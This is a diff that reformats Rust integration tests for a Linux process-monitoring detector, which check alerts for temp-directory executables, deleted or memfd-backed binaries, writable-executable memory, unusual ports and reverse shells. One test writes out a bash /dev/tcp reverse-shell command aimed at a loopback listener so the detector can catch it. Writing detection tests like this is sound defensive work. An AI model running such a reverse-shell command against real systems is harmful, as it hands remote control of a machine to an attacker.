@@ -20,7 +20,11 @@ fn actor() -> PathBuf {
 }
 
 fn run(program: &Path, args: &[&str]) -> u32 {
-    let mut child = Command::new(program).args(args).stdout(Stdio::null()).spawn().expect("spawn");
+    let mut child = Command::new(program)
+        .args(args)
+        .stdout(Stdio::null())
+        .spawn()
+        .expect("spawn");
     let pid = child.id();
     let _ = child.wait();
     pid
@@ -35,10 +39,17 @@ fn tmp_exe_in_tmp_var_tmp_and_dev_shm() {
         let exe = dir.copy_exe(&actor(), "payload");
         let pid = run(&exe, &["exit", "0"]);
         let a = m.expect_rule(pid, "tmp_exe");
-        assert_eq!(a["trigger"]["kind"], "exec", "the exec event itself triggers it: {a:#}");
+        assert_eq!(
+            a["trigger"]["kind"], "exec",
+            "the exec event itself triggers it: {a:#}"
+        );
         assert_eq!(a["exe"], exe.to_str().expect("utf-8"));
         assert_eq!(a["cmdline"][1], "exit");
-        assert!(a["reasons"][0]["attack"].as_str().is_some_and(|t| t.starts_with('T')));
+        assert!(
+            a["reasons"][0]["attack"]
+                .as_str()
+                .is_some_and(|t| t.starts_with('T'))
+        );
     }
 }
 
@@ -48,12 +59,19 @@ fn deleted_exe_while_running() {
     let m = Monitor::start(FAST, &[]);
     let dir = TempDir::new_in(env!("CARGO_TARGET_TMPDIR"), "deleted");
     let exe = dir.copy_exe(&actor(), "soon-gone");
-    let mut child = Command::new(&exe).args(["sleep", "20"]).stdout(Stdio::null()).spawn().expect("spawn");
+    let mut child = Command::new(&exe)
+        .args(["sleep", "20"])
+        .stdout(Stdio::null())
+        .spawn()
+        .expect("spawn");
     std::thread::sleep(Duration::from_millis(300));
     std::fs::remove_file(&exe).expect("delete the running executable");
     let a = m.expect_rule(child.id(), "deleted_exe");
     assert_eq!(a["trigger"]["kind"], "sweep");
-    assert!(a["sha256"].as_str().is_some_and(|h| h.len() == 64), "hashed through /proc/PID/exe: {a:#}");
+    assert!(
+        a["sha256"].as_str().is_some_and(|h| h.len() == 64),
+        "hashed through /proc/PID/exe: {a:#}"
+    );
     let _ = child.kill();
     let _ = child.wait();
 }
@@ -62,10 +80,20 @@ fn deleted_exe_while_running() {
 fn fileless_exec_from_memfd() {
     require_root!();
     let m = Monitor::start(FAST, &[]);
-    let mut child = Command::new(actor()).args(["memfd-exec", "sleep", "3"]).stdout(Stdio::null()).spawn().expect("spawn");
+    let mut child = Command::new(actor())
+        .args(["memfd-exec", "sleep", "3"])
+        .stdout(Stdio::null())
+        .spawn()
+        .expect("spawn");
     let a = m.expect_rule(child.id(), "fileless_exe");
-    assert!(a["exe"].as_str().is_some_and(|e| e.starts_with("/memfd:")), "{a:#}");
-    assert!(!has_rule(&a, "deleted_exe"), "a memfd is fileless, not a deleted file: {a:#}");
+    assert!(
+        a["exe"].as_str().is_some_and(|e| e.starts_with("/memfd:")),
+        "{a:#}"
+    );
+    assert!(
+        !has_rule(&a, "deleted_exe"),
+        "a memfd is fileless, not a deleted file: {a:#}"
+    );
     let _ = child.kill();
     let _ = child.wait();
 }
@@ -74,7 +102,11 @@ fn fileless_exec_from_memfd() {
 fn wx_memory_via_mprotect_and_mmap() {
     require_root!();
     let m = Monitor::start(FAST, &[]);
-    for (action, syscall) in [("mprotect-wx", "mprotect"), ("mmap-wx", "mmap"), ("pkey-mprotect-wx", "pkey_mprotect")] {
+    for (action, syscall) in [
+        ("mprotect-wx", "mprotect"),
+        ("mmap-wx", "mmap"),
+        ("pkey-mprotect-wx", "pkey_mprotect"),
+    ] {
         let pid = run(&actor(), &[action]);
         let a = m.expect_rule(pid, "wx_mem");
         assert_eq!(a["trigger"]["kind"], "wx_mem");
@@ -102,7 +134,12 @@ fn connect_to_unlisted_port_on_loopback() {
     let pid = run(&actor(), &["connect", "127.0.0.1", &port.to_string()]);
     let a = m.expect_rule(pid, "suspicious_port");
     assert_eq!(a["trigger"]["kind"], "connect");
-    assert!(a["remote_ports"].as_array().is_some_and(|p| p.contains(&port.into())), "{a:#}");
+    assert!(
+        a["remote_ports"]
+            .as_array()
+            .is_some_and(|p| p.contains(&port.into())),
+        "{a:#}"
+    );
     assert!(a["conns_outbound"].as_u64().is_some_and(|n| n >= 1));
 }
 
@@ -114,7 +151,11 @@ fn connecting_to_a_listed_port_does_not_alert() {
     let m = Monitor::start(&format!("{FAST}ports: \"53,80,443,{port}\"\n"), &[]);
     let pid = run(&actor(), &["connect", "127.0.0.1", &port.to_string()]);
     std::thread::sleep(Duration::from_millis(1500));
-    assert!(m.alerts().iter().all(|a| a["pid"] != pid), "{:#?}", m.alerts());
+    assert!(
+        m.alerts().iter().all(|a| a["pid"] != pid),
+        "{:#?}",
+        m.alerts()
+    );
 }
 
 /// Accepts one connection and keeps it, so the shell on the other end stays up.
@@ -131,9 +172,17 @@ fn reverse_shell_with_socket_stdio() {
     let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
     let port = listener.local_addr().expect("addr").port();
     let peer = accept_one(listener);
-    let mut child = Command::new(actor()).args(["reverse-shell", "127.0.0.1", &port.to_string()]).spawn().expect("spawn");
+    let mut child = Command::new(actor())
+        .args(["reverse-shell", "127.0.0.1", &port.to_string()])
+        .spawn()
+        .expect("spawn");
     let a = m.expect_rule(child.id(), "reverse_shell");
-    assert!(a["reasons"].to_string().contains(&format!("127.0.0.1:{port}")), "{a:#}");
+    assert!(
+        a["reasons"]
+            .to_string()
+            .contains(&format!("127.0.0.1:{port}")),
+        "{a:#}"
+    );
     if let Ok(Some(mut s)) = peer.join() {
         let _ = s.write_all(b"exit\n");
     }
@@ -145,9 +194,16 @@ fn reverse_shell_with_socket_stdio() {
     let port = listener.local_addr().expect("addr").port();
     let peer = accept_one(listener);
     let script = format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
-    let mut child = Command::new("bash").args(["-c", &script]).stdin(Stdio::null()).spawn().expect("bash");
+    let mut child = Command::new("bash")
+        .args(["-c", &script])
+        .stdin(Stdio::null())
+        .spawn()
+        .expect("bash");
     let a = m.expect_rule(child.id(), "reverse_shell");
-    assert!(a["exe"].as_str().is_some_and(|e| e.ends_with("/bash")), "{a:#}");
+    assert!(
+        a["exe"].as_str().is_some_and(|e| e.ends_with("/bash")),
+        "{a:#}"
+    );
     if let Ok(Some(mut s)) = peer.join() {
         let _ = s.write_all(b"exit\n");
         let mut sink = Vec::new();
@@ -161,7 +217,11 @@ fn reverse_shell_with_socket_stdio() {
 fn busy_loop_is_high_cpu() {
     require_root!();
     let m = Monitor::start(&format!("{FAST}cpu_high: 50\n"), &[]);
-    let mut child = Command::new(actor()).args(["busy", "6"]).stdout(Stdio::null()).spawn().expect("spawn");
+    let mut child = Command::new(actor())
+        .args(["busy", "6"])
+        .stdout(Stdio::null())
+        .spawn()
+        .expect("spawn");
     let a = m.expect_rule(child.id(), "high_cpu");
     assert!(a["cpu_pct"].as_f64().is_some_and(|c| c >= 50.0), "{a:#}");
     assert_eq!(a["trigger"]["kind"], "sweep");
@@ -197,6 +257,11 @@ fn sigterm_exits_zero_with_a_summary() {
     assert!(status.success(), "{status:?}");
     let summary = summary.expect("summary line");
     assert_eq!(summary["sensor"]["malformed"], 0);
-    assert!(summary["engine"]["alerts"].as_u64().is_some_and(|n| n >= alerts), "{summary:#}");
+    assert!(
+        summary["engine"]["alerts"]
+            .as_u64()
+            .is_some_and(|n| n >= alerts),
+        "{summary:#}"
+    );
     assert!(eventually(Duration::from_secs(1), || true));
 }
